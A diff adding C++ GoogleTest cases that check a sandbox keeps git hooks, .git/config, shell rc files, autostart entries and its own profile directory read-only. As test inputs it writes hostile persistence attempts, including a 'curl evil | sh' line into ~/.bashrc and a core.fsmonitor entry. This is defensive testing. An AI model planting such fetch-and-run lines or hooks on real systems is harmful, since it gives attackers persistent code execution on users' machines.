@@ -335,3 +335,83 @@ TEST_F(SymlinkSwap, Control_MountPointsUnderABoundHostDirectoryAreCreatedOnTheHo
   ASSERT_EQ(r.exit_code, 0) << r;
   EXPECT_EQ(victim_entries(), std::vector<std::string>{"deep"});
 }
+
+// ---- self-protection ------------------------------------------------------------------------
+//
+// A sandboxed command that can write the project or the home plants what runs LATER, outside
+// the sandbox: a git hook or `core.fsmonitor` in .git/config (run by the next `git status`,
+// often by a shell prompt), a shell rc file, an autostart entry, a profile on sandbox's own
+// search path that weakens the next run. The default profile keeps those read-only.
+class SelfProtection : public FilesystemEscape {};
+
+TEST_F(SelfProtection, GitHooksAndConfigOfTheProjectAreReadOnly) {
+  fs::create_directories(work() + "/.git/hooks");
+  write_file_as(work() + "/.git/config", "[core]\n", user());
+  if (running_as_root())
+    for (const auto &p : {work() + "/.git", work() + "/.git/hooks"})
+      (void)!chown(p.c_str(), user().uid, user().gid);
+  RunResult r = probe({"write", work() + "/.git/hooks/pre-commit", "+", "write",
+                       work() + "/.git/config", "[core]\n\tfsmonitor = /tmp/x\n", "+", "write",
+                       work() + "/.git/COMMIT_EDITMSG", "+", "write", work() + "/src.c"});
+  ASSERT_EQ(r.exit_code, 0) << r;
+  auto res = r.results();
+  ASSERT_EQ(res.size(), 4U) << r;
+  EXPECT_EQ(res[0], "errno=EROFS") << "a git hook was planted" << r;
+  EXPECT_EQ(res[1], "errno=EROFS") << ".git/config was rewritten" << r;
+  // Control, in the same run: the rest of the project and of .git stays writable.
+  EXPECT_EQ(res[2], "ok") << r;
+  EXPECT_EQ(res[3], "ok") << r;
+  EXPECT_FALSE(fs::exists(work() + "/.git/hooks/pre-commit"));
+  EXPECT_EQ(read_file(work() + "/.git/config"), "[core]\n");
+}
+
+TEST_F(SelfProtection, WithTheHomeBoundReadWriteRcFilesAndConfigDirsStayReadOnly) {
+  const std::string home = user().home;
+  // What this test may create in the real home, removed afterwards if it was not there.
+  std::vector<std::string> created;
+  for (const char *d : {"/.config", "/.local"})
+    if (!fs::exists(home + d))
+      created.push_back(home + d);
+  const bool had_bashrc = fs::exists(home + "/.bashrc");
+  if (!had_bashrc)
+    write_file_as(home + "/.bashrc", "# test\n", user());
+  const std::string bashrc = read_file(home + "/.bashrc");
+  const std::string control = home + "/sbx-self-protection-" + marker();
+
+  RunResult r = probe({"write", home + "/.bashrc", "curl evil | sh\n", "+", "mkdir",
+                       home + "/.config/sandbox/profiles", "+", "write",
+                       home + "/.config/autostart/evil.desktop", "+", "write",
+                       home + "/.local/bin/ls", "+", "write", control},
+                      {"--bind", home});
+  std::error_code ec;
+  fs::remove(control, ec);
+  for (const auto &c : created)
+    fs::remove_all(c, ec);
+  if (!had_bashrc)
+    fs::remove(home + "/.bashrc", ec);
+
+  ASSERT_EQ(r.exit_code, 0) << r;
+  auto res = r.results();
+  ASSERT_EQ(res.size(), 5U) << r;
+  EXPECT_EQ(res[0], "errno=EROFS") << "~/.bashrc was rewritten" << r;
+  // These did not exist (or were empty): sandbox created them empty and read-only, so
+  // nothing can be planted in them.
+  EXPECT_EQ(res[1], "errno=EROFS") << "a profile directory was planted in ~/.config/sandbox" << r;
+  EXPECT_EQ(res[2], "errno=EROFS") << "an autostart entry was planted" << r;
+  EXPECT_EQ(res[3], "errno=EROFS") << "a program was planted in ~/.local/bin" << r;
+  EXPECT_EQ(res[4], "ok") << "control: the home is not writable at all" << r;
+  EXPECT_EQ(bashrc, had_bashrc ? read_file(home + "/.bashrc") : "# test\n");
+}
+
+TEST_F(SelfProtection, TheThrowawayHomeStaysWritableForInstallers) {
+  // Under the default's tmpfs $HOME nothing planted survives, so nothing is protected there:
+  // `pip install --user` and the like still work.
+  const std::string home = user().home;
+  RunResult r = probe({"mkdir", home + "/.local", "+", "mkdir", home + "/.local/bin", "+", "write",
+                       home + "/.local/bin/tool", "+", "mkdir", home + "/.config", "+", "mkdir",
+                       home + "/.config/git"});
+  ASSERT_EQ(r.exit_code, 0) << r;
+  for (const auto &res : r.results())
+    EXPECT_EQ(res, "ok") << r;
+  EXPECT_EQ(r.results().size(), 5U) << r;
+}
